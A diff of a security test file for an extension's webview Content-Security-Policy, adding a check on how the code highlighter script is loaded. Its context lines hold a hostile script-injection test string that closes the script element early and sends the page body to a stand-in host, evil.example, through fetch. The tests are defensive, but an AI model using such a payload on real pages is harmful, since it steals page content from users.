@@ -140,6 +140,16 @@ describe('security: the webview Content-Security-Policy', () => {
     assert.notEqual(other, nonce, 'each page gets its own nonce');
   });
 
+  it("names the code highlighter's shipped file on the page's script, which the policy lets in by the nonce alone", () => {
+    const { map } = policyOf(html);
+    const [script] = elementsOf(html, 'script');
+    assert.ok(script, 'the page has its script');
+    assert.equal(script.attributes.get('data-svc-highlighter'), `${CSP_SOURCE}${DIST}/webviewHighlight.js`, "the highlighter comes from the extension's dist/ folder");
+    assert.ok(fs.existsSync(path.join(DIST, 'webviewHighlight.js')), 'dist/webviewHighlight.js is built');
+    // No origin in script-src: the file loads only as a script the page gives its own nonce (test/webview's highlighting cases).
+    assert.ok(!(map.get('script-src') ?? []).includes(CSP_SOURCE), 'script-src names no origin, not even the extension files');
+  });
+
   describe('a script or style that would end its element early is refused', () => {
     const hostileScripts = [
       'var a = "</script><script>fetch(`https://evil.example/?${document.body.innerHTML}`)</script>";',
@@ -159,14 +169,14 @@ describe('security: the webview Content-Security-Policy', () => {
     }
 
     it('unchecked, the attack works: the parser sees a second script the nonce never covered', () => {
-      const page = pages.chatViewHtml(fakeWebview(), 'bm9uY2Vub25jZW5vbmNlMQ==', { script: hostileScripts[0] as string, style: '' }, { language: 'en', bundle: {} });
+      const page = pages.chatViewHtml(fakeWebview(), 'bm9uY2Vub25jZW5vbmNlMQ==', { script: hostileScripts[0] as string, style: '', highlighterUri: '' }, { language: 'en', bundle: {} });
       assert.equal(elementsOf(page, 'script').length, 2, 'an unchecked script splits into two elements');
     });
 
     it('a script that only mentions those words in other forms is kept whole', () => {
       const script = 'var a = "<\\/script>", b = "<!--", c = /<script(?=\\s|>)/, d = "<scripts>";';
       assert.equal(assets.checkScriptEmbeddable('dist/webview.js', script), script);
-      const page = pages.chatViewHtml(fakeWebview(), 'bm9uY2Vub25jZW5vbmNlMQ==', { script, style: '' }, { language: 'en', bundle: {} });
+      const page = pages.chatViewHtml(fakeWebview(), 'bm9uY2Vub25jZW5vbmNlMQ==', { script, style: '', highlighterUri: '' }, { language: 'en', bundle: {} });
       assert.deepEqual(elementsOf(page, 'script').map((s) => s.text), [script]);
     });
 
